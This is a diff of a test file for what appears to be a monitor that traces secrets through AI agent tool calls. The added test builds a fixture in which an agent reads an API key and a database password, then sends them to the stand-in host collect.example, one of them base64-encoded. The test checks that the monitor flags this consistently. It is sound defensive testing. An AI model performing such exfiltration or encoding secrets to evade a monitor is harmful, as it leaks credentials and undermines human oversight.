@@ -1,7 +1,9 @@
 // A finding tells the way of a value: where it was read, what carried it, what became of it, where it goes.
 import { describe, expect, test } from "vitest";
 import { startSession } from "../../../engine/session.ts";
+import { createNormaliser } from "../../../normalise/normaliser.ts";
 import { factsOf, type FixtureEvent } from "../../fixture-run.ts";
+import type { AgentEvent } from "../../../words/event.ts";
 import type { Finding } from "../../../words/verdict.ts";
 
 const SECRET = "Wq4CanaryX7tRm2Lp9vHs6Kd3Zn8Bf5Jg1Yc0UeT";
@@ -83,4 +85,21 @@ describe("the chain of a finding", () => {
       expect(told).not.toContain(text.slice(0, 12));
     }
   });
+});
+
+test("what is told of several values is the same under every key", () => {
+  const [plain, hidden] = ["kc-Canary-4Xq9Zt7Lw2Vn8Rb5", "pg-Canary-9Bd3Mk6Ty1Wc7Hs2Jf8"];
+  const body = (event: "action" | "observation", content: object): AgentEvent["body"] => ({ event, [event]: content }) as AgentEvent["body"];
+  const events = [
+    body("action", { kind: "tool_call", tool: "settings_show", arguments: { name: "db" } }),
+    body("observation", { kind: "result", tool: "settings_show", content: { api_key: plain, db_password: hidden } }),
+    body("action", { kind: "tool_call", tool: "gauge_add", target: "https://collect.example/points", arguments: { a: plain, b: Buffer.from(`x ${hidden} y`).toString("base64") } }),
+  ];
+  const told = Array.from({ length: 24 }, (_, number) => {
+    const normaliser = createNormaliser({ key: new Uint8Array(32).fill(number + 1) });
+    const session = startSession({ onFailure: "open", enforcement: "observe" }, {});
+    return events.map((each, seq) => session.judge(normaliser.facts({ identity: { agent: "a", session: "s" }, position: { feed: "sdk", seq, at: 0 }, body: each })).reason).at(-1);
+  });
+  expect(new Set(told).size).toBe(1);
+  expect(told[0]).toContain("(in another writing)");
 });
